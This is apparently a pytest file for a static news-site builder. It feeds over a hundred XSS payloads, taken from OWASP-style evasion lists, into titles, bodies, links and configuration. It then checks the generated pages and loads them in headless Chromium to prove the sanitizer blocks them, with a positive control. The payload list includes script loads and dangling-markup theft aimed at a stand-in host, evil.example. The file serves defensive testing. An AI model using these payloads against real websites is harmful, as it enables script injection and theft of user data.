"""No script from the input ever runs: a site built from raw files full of XSS vectors, checked in
its markup, feeds and JSON-LD, then opened page by page in headless Chromium.

The vectors come from the OWASP XSS filter evasion cheat sheet and the payload lists the security
community keeps (event handlers, URL schemes, entity and case tricks, mutation XSS through foreign
content and raw-text elements, breakouts from attributes, titles, comments and scripts). Each calls
`alert(N)` with its own number, so a dialog says which one got through. They are put in titles,
bodies, authors, links, image captions, tag labels, source names and folder names.

The Content-Security-Policy is stripped from every page as it is served: it is the second wall, and
this test is about the first (sanitizing and escaping). A positive control serves the same page
with vectors pasted in unsanitized, and the same detectors must catch them.
"""

from __future__ import annotations

import html
import json
import os
import random
import re
import shlex
import subprocess
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from browser import Chromium, browser_missing, serve_folder
from conftest import ROOT
from lxml import etree
from lxml import html as lxml_html
from news_digest.clean import BODY_ATTRIBUTES, BODY_TAGS

pytestmark = pytest.mark.build

# `XSSN` becomes each vector's own number.
VECTORS = [
    # Script elements, plain and disguised
    "<script>alert(XSSN)</script>",
    "<SCRIPT>alert(XSSN)</SCRIPT>",
    "<script src=https://evil.example/xss.js?XSSN></script>",
    "<SCRIPT SRC=//evil.example/.j?XSSN></SCRIPT>",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js?XSSN"></SCRIPT>',
    "<<SCRIPT>alert(XSSN);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?XSSN< B >",
    "<scr<script>ipt>alert(XSSN)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(XSSN)</script>",
    '"><script>alert(XSSN)</script>',
    "'><script>alert(XSSN)</script>",
    "</script><script>alert(XSSN)</script>",
    "</title><script>alert(XSSN)</script>",
    "</textarea><script>alert(XSSN)</script>",
    "--><script>alert(XSSN)</script>",
    "]]><script>alert(XSSN)</script>",
    "<![CDATA[<script>alert(XSSN)</script>]]>",
    "<svg><script>alert(XSSN)</script></svg>",
    "<svg><script href=data:,alert(XSSN) />",
    "<math><script>alert(XSSN)</script></math>",
    "<script type=module>alert(XSSN)</script>",
    "<script>eval('al'+'ert(XSSN)')</script>",
    '\\";alert(XSSN);//',
    # Images and media with event handlers
    "<img src=x onerror=alert(XSSN)>",
    "<IMG SRC=x ONERROR=alert(XSSN)>",
    '<img src=x onerror="alert(XSSN)">',
    "<img src=x onerror=alert`XSSN`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=XSSN>",
    "<img src=1 onerror=\\u0061lert(XSSN)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(XSSN)>",
    '<img """><script>alert(XSSN)</script>">',
    "<img/src/onerror=alert(XSSN)>",
    "<img src=x onerror=alert(XSSN)//",
    "<image src=x onerror=alert(XSSN)>",
    "<video><source onerror=alert(XSSN)></video>",
    "<video src=x onerror=alert(XSSN)></video>",
    "<audio src=x onerror=alert(XSSN)></audio>",
    "<video poster=javascript:alert(XSSN)//></video>",
    "<input type=image src=x onerror=alert(XSSN)>",
    "<object data=x onerror=alert(XSSN)></object>",
    # Other event handlers that fire on their own
    "<svg onload=alert(XSSN)>",
    "<svg/onload=alert(XSSN)>",
    "<body onload=alert(XSSN)>",
    "<BODY ONLOAD=alert(XSSN)>",
    "<body onpageshow=alert(XSSN)>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(XSSN)>",
    "<input autofocus onfocus=alert(XSSN)>",
    "<select autofocus onfocus=alert(XSSN)></select>",
    "<textarea autofocus onfocus=alert(XSSN)></textarea>",
    "<keygen autofocus onfocus=alert(XSSN)>",
    "<button autofocus onfocus=alert(XSSN)>b</button>",
    "<a id=xssXSSN tabindex=1 autofocus onfocus=alert(XSSN)>a</a>",
    "<details open ontoggle=alert(XSSN)><summary>s</summary></details>",
    "<marquee onstart=alert(XSSN)>m</marquee>",
    "<svg><animate onbegin=alert(XSSN) attributeName=x dur=1s>",
    "<svg><set attributeName=href onbegin=alert(XSSN)>",
    "<svg><discard onbegin=alert(XSSN)>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(XSSN)>p</p>",
    "<div onmouseover=alert(XSSN) style=position:fixed;inset:0>hover</div>",
    "<p onclick=alert(XSSN)>click</p>",
    "<frameset onload=alert(XSSN)>",
    "<iframe onload=alert(XSSN)></iframe>",
    "<form><input type=submit formaction=javascript:alert(XSSN)></form>",
    # URL schemes in links and sources
    "<a href=javascript:alert(XSSN)>link</a>",
    '<a href="JaVaScRiPt:alert(XSSN)">link</a>',
    '<a href="  javascript:alert(XSSN)">link</a>',
    '<a href="java&#x09;script:alert(XSSN)">link</a>',
    '<a href="java&#x0A;script:alert(XSSN)">link</a>',
    '<a href="jav&#x0D;ascript:alert(XSSN)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(XSSN)">link</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(XSSN)">link</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(XSSN)">l</a>',
    '<a href="javascript&colon;alert(XSSN)">link</a>',
    '<a href="vbscript:msgbox(XSSN)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#XSSN">link</a>',
    '<a href="data:text/html,<script>alert(XSSN)</script>">link</a>',
    "<IMG SRC=\"javascript:alert('XSSN');\">",
    "<IMG SRC=JaVaScRiPt:alert(XSSN)>",
    '<IMG SRC=" &#14;  javascript:alert(XSSN);">',
    "<IMG DYNSRC=\"javascript:alert('XSSN')\">",
    "<IMG LOWSRC=\"javascript:alert('XSSN')\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSSN\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSSN')\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSSN')\"><tr><td>t</td></tr></TABLE>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSSN')\">t</TD></TABLE>",
    "<iframe src=javascript:alert(XSSN)></iframe>",
    '<iframe src="data:text/html,<script>alert(XSSN)</script>"></iframe>',
    '<iframe srcdoc="<script>alert(XSSN)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(XSSN)&gt;"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSSN');\"></FRAMESET>",
    '<object data="javascript:alert(XSSN)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#XSSN"></object>',
    '<embed src="javascript:alert(XSSN)">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#XSSN" type="image/svg+xml">',
    "<form action=javascript:alert(XSSN)><input type=submit></form>",
    "<form><button formaction=javascript:alert(XSSN)>b</button></form>",
    "<isindex type=image src=1 onerror=alert(XSSN)>",
    '<math><a xlink:href="javascript:alert(XSSN)">m</a></math>',
    '<svg><a xlink:href="javascript:alert(XSSN)"><text x=0 y=20>s</text></a></svg>',
    '<svg><a href="javascript:alert(XSSN)"><text x=0 y=20>s</text></a></svg>',
    '<base href="javascript:alert(XSSN)//">',
    '<link rel=stylesheet href="javascript:alert(XSSN)">',
    '<link rel=import href="data:text/html,<script>alert(XSSN)</script>">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(XSSN);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#XSSN">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://evil.example/?XSSN">',
    '<meta http-equiv="Set-Cookie" content="XSSN=<script>alert(XSSN)</script>">',
    # Style sheets
    "<STYLE>@import'https://evil.example/xss.css?XSSN';</STYLE>",
    '<STYLE>li {list-style-image: url("javascript:alert(XSSN)");}</STYLE><UL><LI>x</UL>',
    '<DIV STYLE="background-image: url(javascript:alert(XSSN))">d</DIV>',
    '<DIV STYLE="width: expression(alert(XSSN));">d</DIV>',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(XSSN))">',
    '<p style="background:url(https://evil.example/bg.png?XSSN)">styled</p>',
    "<style>body{background:url(https://evil.example/bg.png?XSSN)}</style>",
    # Mutation XSS: what a sanitizer's parser and the browser's read differently
    '<noscript><p title="</noscript><img src=x onerror=alert(XSSN)>">',
    "<svg><style><img src=x onerror=alert(XSSN)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(XSSN)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(XSSN)>",
    "<math><mi><table><mi><style><img src=x onerror=alert(XSSN)></style>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(XSSN)>">',
    '<xmp><p title="</xmp><svg/onload=alert(XSSN)>">',
    '<title><p title="</title><img src=x onerror=alert(XSSN)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(XSSN)>">',
    '<!--<img src="--><img src=x onerror=alert(XSSN)//">',
    '<comment><img src="</comment><img src=x onerror=alert(XSSN)//">',
    "<style><style/><img src=x onerror=alert(XSSN)>",
    "<template><img src=x onerror=alert(XSSN)></template>",
    '<a href="https://wire.example/" title="x" onmouseover=alert(XSSN) autofocus tabindex=0>a</a>',
    # Encodings and charset tricks
    "+ADw-script+AD4-alert(XSSN)+ADw-/script+AD4-",
    '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoAFgAUwBTAE4AKQ&ACAAPABi',
    "%3Cscript%3Ealert(XSSN)%3C/script%3E",
    "&lt;script&gt;alert(XSSN)&lt;/script&gt;",
    "&#60;script&#62;alert(XSSN)&#60;/script&#62;",
    "\u003cscript\u003ealert(XSSN)\u003c/script\u003e",
    "<scr\u0000ipt>alert(XSSN)</scr\u0000ipt>",
    # Template injection, for a theme that would evaluate what it shows
    "{{constructor.constructor('alert(XSSN)')()}}",
    "${alert(XSSN)}",
    "{{ 7*7 }} {% raw %} XSSN {% endraw %}",
    # Dangling markup: stealing what follows by an unclosed attribute
    "<img src='https://evil.example/steal?XSSN=",
    '<a href="https://evil.example/steal?XSSN=',
    "<table background='https://evil.example/bg?XSSN='>",
]
VECTORS = [vector.replace("XSSN", str(number)) for number, vector in enumerate(VECTORS, start=1)]
# Links: what a raw file gives as the article's URL.
LINK_VECTORS = [
    "javascript:alert(801)",
    "JAVASCRIPT:alert(802)",
    "vbscript:msgbox(803)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg4MDQpPC9zY3JpcHQ+",
    'https://xss.example/a"onmouseover="alert(805)',
    "https://xss.example/a'onmouseover='alert(806)'",
    'https://xss.example/"><script>alert(807)</script>',
    "https://xss.example/?q=</script><script>alert(808)</script>",
    "//evil.example/809",
    "https://evil.example\\@xss.example/810",
    "https:javascript:alert(811)",
    "&#106;avascript:alert(812)",
]
# The site's own configuration, hostile too: a source name, tag labels, and a folder name.
SOURCE_NAME = "<script>alert(901)</script> Harbour Wire"
TAG_LABELS = {"harbour": "<img src=x onerror=alert(902)> Harbour", "quay": '"><svg onload=alert(903)>'}
FOLDER_NAME = "<img src=x onerror=alert(904)>"
# Each raw file carries this many vectors in each place.
PER_FILE = 5
# How the built site is searched as a reader would (the search page runs Pagefind over the index).
SEARCHES = ("alert", "script", "onerror", "harbour", "javascript")
CSP_META_PATTERN = re.compile(rb"<meta\s+http-equiv=[\"']?content-security-policy[^>]*>", re.IGNORECASE)
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset", "ping")
SAFE_DATA_URL_PATTERN = re.compile(r"^data:(?:,|image/(?:png|gif|jpeg|webp|avif)[;,])", re.IGNORECASE)
DANGEROUS_ELEMENTS = ("iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal")
BODY_URL_SCHEMES = ("http", "https", "mailto")
SETTLE_SECONDS = 0.3
SEARCH_SETTLE_SECONDS = 1.5


def chunks(items: list[str], index: int) -> list[str]:
    """The index-th run of PER_FILE items, wrapping around."""
    return [items[(index * PER_FILE + offset) % len(items)] for offset in range(PER_FILE)]


WORDS = [
    "anchor",
    "barge",
    "beacon",
    "bollard",
    "breakwater",
    "buoy",
    "cargo",
    "channel",
    "crane",
    "crew",
    "dock",
    "dredger",
    "ebb",
    "estuary",
    "ferry",
    "fleet",
    "fog",
    "gale",
    "gangway",
    "harbour",
    "hull",
    "jetty",
    "keel",
    "lighthouse",
    "lock",
    "mooring",
    "mast",
    "navigator",
    "pier",
    "pilot",
    "port",
    "quay",
    "reef",
    "rope",
    "rudder",
    "sail",
    "salvage",
    "shipyard",
    "shore",
    "slipway",
    "spray",
    "squall",
    "starboard",
    "storm",
    "surge",
    "swell",
    "tanker",
    "tide",
    "towline",
    "trawler",
    "tug",
    "warehouse",
    "wave",
    "wharf",
    "winch",
]


def prose(index: int) -> str:
    """Two sentences of the harbour's news, different enough in every file not to be taken for copies."""
    pick = random.Random(index)
    words = " ".join(pick.sample(WORDS, 14))
    return (
        f"The harbour at berth {index} reopened on Thursday after {index + 2} days of storms: {words}. "
        f"Ships waited at the quay while the harbour master counted {index * 7 + 11} crates."
    )


def yaml_text(value: str) -> str:
    return json.dumps(value)  # a JSON string is a YAML double-quoted scalar


def raw_files(count: int) -> dict[str, str]:
    """The raw files, by path under content/: every shape, vectors in every place a shape has."""
    files = {}
    for index in range(count):
        title = " ".join(chunks(VECTORS, index))
        author = " ".join(chunks(VECTORS, index + 7))
        caption = " ".join(chunks(VECTORS, index + 13))
        body = "".join(f"<p>{vector}</p>" for vector in chunks(VECTORS, index + 19))
        link = LINK_VECTORS[index % len(LINK_VECTORS)]
        link += f"{'&' if '?' in link else '?'}file={index}"  # one article per link: no two merged as copies
        figure = f'<figure><img src="https://img.xss.example/{index}.jpg" alt="{caption}"><figcaption>{caption}</figcaption></figure>'
        # The prose first: a vector left open (<textarea>, <xmp>) may swallow what follows it.
        html_body = f"<p>{prose(index)}</p>{figure}{body}<p>{prose(index + 100)}</p>"
        shape = index % 5
        if shape == 0:
            files[f"xss/jekyll-{index}.txt"] = (
                f"---\ntitle: {yaml_text(title)}\nauthor: {yaml_text(author)}\n"
                f"url: {yaml_text('https://xss.example/' + link)}\ndate: 2021-01-07 10:00\n---\n{html_body}\n"
            )
        elif shape == 1:
            header = f"<div>{html.escape(author[:70])}<br>07/01/2021 10:{index % 60:02d}</div>"
            files[f"xss/feed-{index}.txt"] = f"<!--1610013600000-->\n[{title}]({link})\n------\n{header}{html_body}\n"
        elif shape == 2:
            files[f"xss/comment-{index}.txt"] = (
                f"# url = {link}\n# date = 2021-01-07 10:{index % 60:02d}\n# title = {title}\n# author = {author}\n"
                f"{prose(index)}\n{' '.join(chunks(VECTORS, index + 19))}\n{prose(index + 100)}\n"
            )
        elif shape == 3:
            files[f"xss/scrape-{index}.txt"] = (
                f"{title}\n{author[:100].replace('|', ' ')} | 07/01/2021, 10:{index % 60:02d}\n{prose(index)}\n\n"
                f"photo-{index}.jpg\n{caption}\n\n{' '.join(chunks(VECTORS, index + 19))}\n\n{prose(index + 100)}\n"
            )
        else:
            files[f"{FOLDER_NAME}/page-{index}.txt"] = saved_page(index, title, author, link, html_body)
    return files


def saved_page(index: int, title: str, author: str, link: str, body: str) -> str:
    ld = json.dumps(
        {"@type": "NewsArticle", "headline": title, "author": {"name": author}, "datePublished": "2021-01-07"}
    )
    return (
        f'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>{title}</title>'
        f'<meta property="og:title" content="{title.replace(chr(34), "&quot;")}">'
        f'<link rel="canonical" href="{link.replace(chr(34), "&quot;")}">'
        f'<meta property="og:image" content="javascript:alert(905)">'
        f'<script type="application/ld+json">{ld}</script><script>alert(906)</script></head>'
        f"<body onload=alert(907)><article><h1>{title}</h1>{body}</article></body></html>\n"
    )


def number_of_files() -> int:
    """Enough files for every vector to appear in each place at least once."""
    return -(-len(VECTORS) // PER_FILE)


@pytest.fixture(scope="module")
def xss_site(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("xss")
    content = base / "content"
    for path, text in raw_files(number_of_files()).items():
        (content / path).parent.mkdir(parents=True, exist_ok=True)
        (content / path).write_text(text, encoding="utf-8")
    sources = {"xss": {"name": SOURCE_NAME, "domains": ["xss.example"], "timezone": "UTC", "language": "en"}}
    tags = {tag: {"labels": {"en": label}, "aliases": [tag]} for tag, label in TAG_LABELS.items()}
    (base / "sources.yaml").write_text(json.dumps(sources), encoding="utf-8")  # JSON is YAML
    (base / "tags.yaml").write_text(json.dumps(tags), encoding="utf-8")
    output = base / "output"
    # PELICANOPTS goes through the recipe's shell: each setting quoted for it, its value JSON.
    settings = {"NEWS_DIGEST_SOURCES": str(base / "sources.yaml"), "NEWS_DIGEST_TAGS": str(base / "tags.yaml")}
    options = "-e " + " ".join(shlex.quote(f"{key}={json.dumps(value)}") for key, value in settings.items())
    # The whole of `make html` (the search index included); -o: the environment is up to date.
    command = [
        "make",
        "-o",
        ".venv/.ready",
        "html",
        f"INPUTDIR={content}",
        f"OUTPUTDIR={output}",
        f"PELICANOPTS={options}",
    ]
    result = subprocess.run(
        command,
        cwd=ROOT,
        env={**os.environ, "COLUMNS": "1000"},
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
    )
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return output


def without_csp(path: str, body: bytes) -> bytes:
    return CSP_META_PATTERN.sub(b"", body)


# ---------------------------------------------------------------------------------------------
# Markup


def unsafe_markup(root) -> list[str]:
    """What in a parsed page could run script, load from elsewhere or leave the page."""
    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        for attribute, value in element.attrib.items():
            name = attribute.lower()
            if name.startswith("on"):
                problems.append(f"<{tag} {name}>")
            if name in ("srcdoc", "formaction"):
                problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES or name.endswith("href"):
                for url in value.split(",") if name == "srcset" else [value]:
                    problem = unsafe_url(url)
                    if problem:
                        problems.append(f"<{tag} {name}={value[:80]!r}>: {problem}")
        if tag in DANGEROUS_ELEMENTS:
            problems.append(f"<{tag}>")
        if tag == "meta" and (element.get("http-equiv") or "").lower() in ("refresh", "set-cookie"):
            problems.append(f"<meta http-equiv={element.get('http-equiv')}>")
        if tag == "script" and not element.get("src"):
            kind = (element.get("type") or "").lower()
            if kind not in ("application/ld+json", "application/json"):
                problems.append(f"inline <script>: {(element.text or '')[:80]!r}")
            else:
                try:
                    json.loads(element.text or "")
                except ValueError:
                    problems.append(f"<script type={kind}> that is not JSON: {(element.text or '')[:80]!r}")
        if tag == "script" and element.get("src") and urlsplit(element.get("src")).netloc:
            problems.append(f"<script src={element.get('src')!r}> from another host")
    return problems


def unsafe_url(url: str) -> str | None:
    url = "".join(url.split()).lower()  # browsers ignore whitespace and control characters in schemes
    if url.startswith(("javascript:", "vbscript:", "livescript:")):
        return "script URL"
    if url.startswith("data:") and not SAFE_DATA_URL_PATTERN.match(url):
        return "data: URL"
    return None


def body_violations(fragment_root) -> list[str]:
    """Anything in an article body outside the sanitizer's allowlist (classes aside: the site's own
    typography adds some, and a class runs nothing)."""
    problems = []
    for element in fragment_root.iterdescendants():
        if not isinstance(element.tag, str):
            continue
        if element.tag not in BODY_TAGS and element.tag != "img":
            problems.append(f"<{element.tag}> is not allowed in a body")
        allowed = BODY_ATTRIBUTES.get("*", set()) | BODY_ATTRIBUTES.get(element.tag, set()) | {"class", "rel"}
        problems += [f"<{element.tag} {name}>" for name in element.attrib if name not in allowed]
        href = element.get("href") or element.get("src")
        if href and urlsplit(href).scheme and urlsplit(href).scheme.lower() not in BODY_URL_SCHEMES:
            problems.append(f"<{element.tag}> links to {href[:80]!r}")
    return problems


def html_pages(output: Path) -> list[Path]:
    return sorted(output.rglob("*.html"))


def test_every_vector_is_in_every_place():
    assert len(VECTORS) >= 100
    files = raw_files(number_of_files())
    text = "\n".join(files.values())
    assert all(vector in text for vector in VECTORS)
    assert all(link in text for link in LINK_VECTORS)


def test_no_page_carries_anything_that_could_run_or_fetch(xss_site):
    problems = {}
    for page in html_pages(xss_site):
        root = lxml_html.parse(str(page)).getroot()
        found = unsafe_markup(root)
        for body in root.xpath("//*[contains(concat(' ', normalize-space(@class), ' '), ' article-body ')]"):
            found += body_violations(body)
        if found:
            problems[str(page.relative_to(xss_site))] = found
    assert problems == {}


def test_titles_authors_and_captions_are_shown_as_text(xss_site):
    """The vectors in the title are the page's <title> and <h1> text, as typed."""
    report = json.loads((xss_site / "report.json").read_text(encoding="utf-8"))
    published = [entry for entry in report["files"] if entry["status"] == "published"]
    assert len(published) >= number_of_files() - 2, report["totals"]
    shown = 0
    for entry in published:
        root = lxml_html.parse(str(xss_site / entry["url"] / "index.html")).getroot()
        heading = root.findtext(".//h1") or ""
        if any(vector in heading for vector in VECTORS):
            assert heading in root.findtext(".//title"), (heading, root.findtext(".//title"))
            shown += 1
    assert shown >= len(published) // 2


def test_feeds_and_other_xml_are_well_formed_and_safe(xss_site):
    problems = []
    for path in sorted([*xss_site.rglob("*.xml"), *xss_site.rglob("*.opml")]):
        tree = etree.parse(str(path))  # raises on anything not well-formed
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue
            if element.tag.endswith("}link") and unsafe_url(element.get("href") or ""):
                problems.append(f"{path.name}: link {element.get('href')!r}")
            if element.tag.endswith(("}content", "}summary", "}title")) and element.get("type") == "html":
                fragment = lxml_html.fragment_fromstring(element.text or "", create_parent="div")
                problems += [f"{path.name}: {problem}" for problem in body_violations(fragment)]
                problems += [f"{path.name}: {problem}" for problem in unsafe_markup(fragment)]
    assert problems == []


def test_report_is_json_and_every_file_is_accounted_for(xss_site):
    report = json.loads((xss_site / "report.json").read_text(encoding="utf-8"))
    totals = report["totals"]
    assert totals["read"] == totals["published"] + totals["merged"] + totals["rejected"] == number_of_files()


# ---------------------------------------------------------------------------------------------
# In the browser


needs_browser = pytest.mark.skipif(bool(browser_missing()), reason=browser_missing() or "")


def page_urls(output: Path, server) -> list[tuple[str, float]]:
    urls = [(server.url(str(page.relative_to(output))), SETTLE_SECONDS) for page in html_pages(output)]
    if (output / "search" / "index.html").exists():
        urls += [(server.url(f"search/?q={query}"), SEARCH_SETTLE_SECONDS) for query in SEARCHES]
    return urls


# How many results a search page drew (the search index's text, vectors and all, on the page).
SEARCH_RESULTS = "document.querySelectorAll('#search-results > *').length"


def misbehaviour(visit, server) -> list[str]:
    found = [f"dialog {dialog.kind}: {dialog.message!r}" for dialog in visit.dialogs]
    found += [f"request to {request.url[:100]}" for request in visit.foreign_requests({server.host})]
    found += [f"inline script at {script.url[:100]} line {script.line}" for script in visit.inline_scripts]
    found += [f"navigated to {url[:100]}" for url in visit.navigations]
    return found


@needs_browser
def test_no_page_runs_a_script_or_reaches_another_host(xss_site):
    problems = {}
    with serve_folder(xss_site, rewrite=without_csp) as server, Chromium() as browser:
        urls = page_urls(xss_site, server)
        drawn = 0
        for url, settle in urls:
            is_search = "?q=" in url
            visit = browser.visit(url, settle=settle, evaluate=SEARCH_RESULTS if is_search else None)
            assert visit.loaded and visit.status == 200, (url, visit.status, visit.exceptions)
            drawn += visit.evaluated or 0
            found = misbehaviour(visit, server)
            if found:
                problems[url] = found
    assert len(urls) >= number_of_files()
    assert problems == {}
    if (xss_site / "search" / "index.html").exists():
        assert drawn >= number_of_files(), "the searches drew too few results to have shown the vectors"


@needs_browser
def test_the_detectors_catch_vectors_pasted_in_unsanitized(xss_site, tmp_path):
    """The positive control: an article page of this very site with vectors in its body as typed.
    Every detector above must see them, or the test above could not fail."""
    report = json.loads((xss_site / "report.json").read_text(encoding="utf-8"))
    entry = next(entry for entry in report["files"] if entry["status"] == "published")
    page = (xss_site / entry["url"] / "index.html").read_text(encoding="utf-8")
    pasted = "".join(VECTORS[:30]) + '<img src="https://evil.example/pixel.png">'
    unsafe = re.sub(r'(<div class="article-body"[^>]*>)', lambda m: m.group(1) + pasted, page, count=1)
    assert unsafe != page
    control = tmp_path / "control" / entry["url"]
    control.mkdir(parents=True)
    (control / "index.html").write_text(unsafe, encoding="utf-8")
    os.symlink(xss_site / "theme", tmp_path / "control" / "theme")

    assert unsafe_markup(lxml_html.fromstring(unsafe))
    with serve_folder(tmp_path / "control", rewrite=without_csp) as server, Chromium() as browser:
        visit = browser.visit(server.url(entry["url"]))
    assert visit.loaded
    assert {dialog.message for dialog in visit.dialogs} >= {"1", "24"}  # <script> and <img onerror>
    assert visit.inline_scripts
    assert any(request.host == "evil.example" for request in visit.foreign_requests({server.host}))
